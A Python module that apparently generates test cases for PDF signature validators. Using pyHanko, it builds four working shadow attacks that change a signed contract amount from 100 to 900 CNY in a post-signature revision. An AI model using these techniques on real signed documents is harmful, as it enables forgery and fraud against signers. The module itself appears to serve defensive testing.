"""Shadow attacks: the author prepares the document before handing it to the signer (a covering
field, a field to refill, a spare content stream, a second page tree), and after sealing one small
revision hides, replaces, or hides and replaces what the reader sees."""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from .kit import (
    Kit,
    add_annotation,
    add_field,
    append_revision,
    box_appearance,
    plain_pdf,
    text_field,
    written,
)


def shadow_hide(kit: Kit) -> bytes:
    """Prepared: a text field whose opaque appearance covers the real text. After sealing, the
    overlay is hidden (annotation flag Hidden): the reader now sees what was under it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_pdf("Contract amount: 900 CNY")), strict=False)
    appearance = box_appearance(writer, "Contract amount: 100 CNY")
    field = text_field(writer, "cover", "", (60, 680, 400, 730), appearance)
    field_ref = add_annotation(writer, field)
    add_field(writer, field_ref)
    sealed = kit.seal(written(writer))
    after = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    reference = generic.Reference(field_ref.idnum, field_ref.generation, after)
    cover = after.get_object(reference)
    cover[pdf_name("/F")] = generic.NumberObject(2)  # Hidden
    after.mark_update(reference)
    return written(after)


def shadow_replace_field(kit: Kit) -> bytes:
    """A text field that existed before sealing, refilled with another value and appearance."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_pdf("Contract amount:")), strict=False)
    appearance = box_appearance(writer, "100 CNY", box=(300, 690, 500, 730))
    field_ref = add_annotation(
        writer, text_field(writer, "amount", "100 CNY", (300, 690, 500, 730), appearance)
    )
    add_field(writer, field_ref)
    sealed = kit.seal(written(writer))
    after = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    reference = generic.Reference(field_ref.idnum, field_ref.generation, after)
    field = after.get_object(reference)
    field[pdf_name("/V")] = pdf_string("900 CNY")
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): box_appearance(after, "900 CNY", box=(300, 690, 500, 730))}
    )
    after.mark_update(reference)
    return written(after)


def shadow_replace_xref_only(kit: Kit) -> bytes:
    """Prepared: an unused stream with other text already in the signed file. After sealing, one
    revision gives the page's content object number the shadow's bytes, copied verbatim: no new
    content is written, only an xref entry and the copy."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_pdf("Contract amount: 100 CNY")), strict=False)
    shadow = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY p1) Tj ET")
    shadow_ref = writer.add_object(shadow)
    writer.root[pdf_name("/ShadowKeep")] = shadow_ref  # kept reachable so writers keep it
    writer.update_root()
    sealed = kit.seal(written(writer))
    reader = PdfFileReader(io.BytesIO(sealed), strict=False)
    contents_ref = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    header = sealed.index(b"\n%d 0 obj" % shadow_ref.idnum) + 1
    body_start = sealed.index(b"obj", header) + 3
    body = sealed[body_start : sealed.index(b"endobj", body_start)].strip()
    return append_revision(sealed, {contents_ref.idnum: body})


def shadow_hide_and_replace(kit: Kit) -> bytes:
    """Prepared: a whole second page tree (the shadow document) already in the signed file. After
    sealing, a new catalog points at it: only the catalog and the trailer change."""
    base = plain_pdf("Contract amount: 100 CNY")
    writer = IncrementalPdfFileWriter(io.BytesIO(base), strict=False)
    shadow_pages_ref = writer.add_object(generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages")}))
    first = writer.root["/Pages"]["/Kids"][0].get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY p1) Tj ET")
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): shadow_pages_ref,
            pdf_name("/MediaBox"): first["/MediaBox"],
            pdf_name("/Contents"): writer.add_object(stream),
            pdf_name("/Resources"): first["/Resources"],
        }
    )
    shadow_pages = shadow_pages_ref.get_object()
    shadow_pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(page)])
    shadow_pages[pdf_name("/Count")] = generic.NumberObject(1)
    writer.root[pdf_name("/ShadowKeep")] = shadow_pages_ref
    writer.update_root()
    sealed = kit.seal(written(writer))
    after = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    after.root[pdf_name("/Pages")] = generic.IndirectObject(shadow_pages_ref.idnum, 0, after)
    after.update_root()
    return written(after)
